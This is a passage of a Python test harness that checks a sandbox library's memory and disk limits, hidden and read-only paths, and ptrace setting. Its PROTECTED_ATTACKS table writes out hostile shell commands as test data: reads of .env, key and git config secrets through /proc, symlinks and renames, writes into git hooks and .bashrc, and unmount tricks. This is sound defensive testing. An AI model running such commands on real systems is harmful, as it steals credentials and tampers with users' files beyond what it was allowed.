    obs["verdicts"] = verdicts
    return obs


def _others_can_reach(path: str) -> bool:
    """Whether a user other than the owner could exec ``path`` (every parent o+x)."""
    p = os.path.dirname(path)
    while p not in ("", "/"):
        try:
            if not os.stat(p).st_mode & 0o001:
                return False
        except OSError:
            return False
        p = os.path.dirname(p)
    return True


def _restore(changed: dict[str, tuple[str | None, str | None]]) -> None:
    for p, (old, _new) in changed.items():
        if old is None:
            continue
        try:
            with open(p, "w") as f:
                f.write(old)
        except OSError:
            pass


def resources(token: str) -> dict:
    """Memory hog and disk fill under explicit small limits (the default values are checked
    by the test side); the host's free space and this process survive."""
    import agentic_bash as ab

    obs: dict[str, Any] = {}
    # (no per-process cap first: the sandbox's own memory limit must stop the hog)
    lim = ab.Limits(max_memory_bytes=256 << 20, max_fs_bytes=64 << 20, timeout=60,
                    max_process_memory=None)
    sb = ab.Sandbox(limits=lim)
    capped = None
    try:
        capped = ab.Sandbox(limits=lim.with_(max_process_memory=128 << 20))
        t0 = time.monotonic()
        r = sb.run("python3 -c 'b = bytearray(2 << 30); print(len(b))'; echo rc=$?")
        obs["hog"] = {"out": r.stdout, "err": r.stderr[-500:], "code": r.exit_code,
                      "limit": r.limit_exceeded, "wall": time.monotonic() - t0}
        obs["after_hog"] = sb.run("echo alive").stdout
        # the same hog past a per-process cap of 128 MiB: its allocation fails in the program
        r = capped.run("python3 -c 'b = bytearray(2 << 30); print(len(b))'; echo rc=$?")
        obs["hog_capped"] = {"out": r.stdout, "err": r.stderr[-500:], "code": r.exit_code}
        tmp = os.environ.get("TMPDIR", "/tmp")
        free0 = os.statvfs(tmp).f_bavail * os.statvfs(tmp).f_frsize
        r = sb.run("dd if=/dev/zero of=/workspace/fill bs=1M count=400 2>&1 | tail -1; "
                   "echo x > /workspace/small; echo rc=$?; df -h /workspace | tail -1")
        free1 = os.statvfs(tmp).f_bavail * os.statvfs(tmp).f_frsize
        obs["fill"] = {"out": r.stdout, "err": r.stderr[-500:], "code": r.exit_code,
                       "limit": r.limit_exceeded, "host_free_drop": free0 - free1}
        obs["after_fill"] = sb.run("rm -f /workspace/fill; echo ok > /workspace/k; "
                                   "cat /workspace/k").stdout
    finally:
        sb.close()
        if capped is not None:
            capped.close()
    obs["default_memory"] = ab.Limits().max_memory_bytes
    obs["default_disk"] = ab.Limits().max_fs_bytes
    obs["default_processes"] = ab.Limits().max_processes
    return obs


HIDE = ["**/.env", "**/*.pem", ".git/config"]
READ_ONLY = [".git/hooks", ".bashrc"]
PROTECTED_ATTACKS = {
    "read": "cat .env sub/deep/.env sub/k.pem .git/config; head -c 99 .env; "
            "python3 -c 'print(open(\"/workspace/.env\").read())'; "
            "while read l; do echo $l; done < .env; echo \"$(<.env)\"; source .env; "
            "cp .env /tmp/x && cat /tmp/x",
    "list": "ls -la . sub sub/deep .git; echo * .* sub/deep/.*; find . ; "
            "python3 -c 'import os; print(sorted(os.listdir(\".\")))'; "
            "grep -r SECRET . ; tar cf - . | tar tvf -",
    "links": "ln -s .env l1; cat l1; ln -s /workspace/sub/deep/.env l2; cat l2; ln .env h1; "
             "cat h1; ln -s /workspace/.git l3; cat l3/config; "
             "python3 -c 'import os; os.link(\"/workspace/.env\", \"/tmp/h2\")'; cat /tmp/h2",
    "proc": "cat /proc/self/root/workspace/.env; cat /proc/1/root/workspace/.env; "
            "cat /proc/self/cwd/.env; cd sub/deep && cat ../../.env ./.env; cd /; "
            "cat /workspace/sub/../.env //workspace///.env /workspace/./sub/./deep/.env",
    "lower_view": "cat /.agentic-bash/lower/*/.env /.agentic-bash/lower/*/sub/k.pem; "
                  "grep -r SECRET /.agentic-bash/lower /tmp /home 2>/dev/null",
    "rename": "mv sub s2; cat s2/deep/.env; ls -a s2/deep; mv .git g2; cat g2/config; "
              "mv sub/deep/.env /tmp/e; cat /tmp/e; mv sub/k.pem sub/k.txt; cat sub/k.txt",
    "write_ro": "echo evil > .git/hooks/pre-commit; echo evil >> .bashrc; "
                "printf evil | dd of=.bashrc conv=notrunc; truncate -s0 .bashrc; "
                "touch .git/hooks/new; chmod 777 .bashrc .git/hooks/pre-commit; "
                "python3 -c 'open(\"/workspace/.bashrc\",\"a\").write(\"evil\")'; "
                "sed -i s/hook/evil/ .git/hooks/pre-commit",
    "delete_ro": "rm -f .bashrc .git/hooks/pre-commit; rm -rf .git/hooks; mv .bashrc b2; "
                 "mv .git/hooks h2; mv .git g3; echo evil > x; mv -f x .bashrc; "
                 "mv -f x .git/hooks/pre-commit; ln -sf /tmp/evil .bashrc; "
                 "rm -rf .git; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit",
    "mount_tricks": "umount .bashrc; umount -l .git/hooks; umount /workspace/.env; "
                    "mount -o remount,rw .git/hooks; unshare -rm sh -c 'umount .bashrc'",
}


def protected(token: str) -> dict:
    """hide=/read_only= under attack, at the level the default picks and at virtual."""
    import shutil
    import tempfile
    import agentic_bash as ab

    obs: dict[str, Any] = {}
    src = tempfile.mkdtemp(prefix="agb-prot-")
    os.chmod(src, 0o755)
    files = {".env": f"SECRET_ENV_{token}\n", "sub/deep/.env": f"SECRET_DEEP_{token}\n",
             "sub/k.pem": f"SECRET_PEM_{token}\n", ".git/config": f"SECRET_GIT_{token}\n",
             ".git/HEAD": "ref: refs/heads/main\n", ".git/hooks/pre-commit": "hook\n",
             ".bashrc": "rc\n", "readme": "public\n"}
    for rel, text in files.items():
        os.makedirs(os.path.join(src, os.path.dirname(rel)), exist_ok=True)
        with open(os.path.join(src, rel), "w") as f:
            f.write(text)
    for root, dirs, fs in os.walk(src):
        for d in dirs:
            os.chmod(os.path.join(root, d), 0o755)
        for x in fs:
            os.chmod(os.path.join(root, x), 0o644)
    before = {rel: _sha(os.path.join(src, rel)) for rel in files}
    try:
        # virtual's gate is attacked in-process by test_protected_paths.py; "virtual" here
        # too when AGB_PROTECT_LEVELS says so (the subprocess costs a second sandbox)
        for level in os.environ.get("AGB_PROTECT_LEVELS", "auto").split(","):
            sb = ab.Sandbox(level, mounts={"/workspace": src}, hide=HIDE, read_only=READ_ONLY)
            o: dict[str, Any] = {"report": str(sb.isolation),
                                 "mech": sb.isolation.mechanisms.get("protected_paths")}
            try:
                for name, script in PROTECTED_ATTACKS.items():
                    print(level, name, file=sys.stderr, flush=True)
                    r = sb.run("cd /workspace; " + script + "; true", timeout=60)
                    o[name] = {"out": r.stdout[-4000:], "err": r.stderr[-3000:]}
                    # each read-only file as the sandbox sees it after the attack
                    o[name]["ro_inside"] = sb.run(
                        "cd /workspace; cat .bashrc .git/hooks/pre-commit; ls .git/hooks").stdout
                o["public"] = sb.run("cat readme .git/HEAD").stdout
                o["api_read"] = []
                for rel in (".env", "sub/k.pem", ".git/config"):
                    try:
                        o["api_read"].append(sb.read_file("/workspace/" + rel))
                    except Exception as e:  # noqa: BLE001
                        o["api_read"].append(type(e).__name__)
                o["api_write"] = []
                for rel in (".bashrc", ".git/hooks/pre-commit", ".env", "new.pem"):
                    try:
                        sb.write_file("/workspace/" + rel, b"evil")
                        o["api_write"].append("written")
                    except Exception as e:  # noqa: BLE001
                        o["api_write"].append(type(e).__name__)
                o["after_api"] = sb.run("cat .bashrc .git/hooks/pre-commit").stdout
            finally:
                sb.close()
            obs[level] = o
        obs["host_unchanged"] = all(_sha(os.path.join(src, rel)) == h
                                    for rel, h in before.items())
        obs["token"] = token
    finally:
        shutil.rmtree(src, ignore_errors=True)
    return obs


def ptrace_allowed(token: str) -> dict:
    """Sandbox(allow_ptrace=True): strace works; the default refuses it."""
    import agentic_bash as ab
    obs: dict[str, Any] = {}
    for allow in (False, True):
        sb = ab.Sandbox(allow_ptrace=allow)
        try:
            r = sb.run("strace -f -e trace=openat -o /tmp/st cat /etc/hostname >/dev/null; "
                       "echo rc=$?; grep -c hostname /tmp/st")
            obs[str(allow)] = {"out": r.stdout, "err": r.stderr[-2000:],
                               "violations": [str(v) for v in r.violations],
                               "notes": list(sb.isolation.notes)}
        finally:
            sb.close()
    return obs


if __name__ == "__main__":
    fn: Callable[[str], dict] = {"battery": battery, "resources": resources,
                                 "protected": protected, "ptrace": ptrace_allowed}[sys.argv[1]]
    result = fn(sys.argv[2])
    print("\n@@JSON@@" + json.dumps(result, default=str))
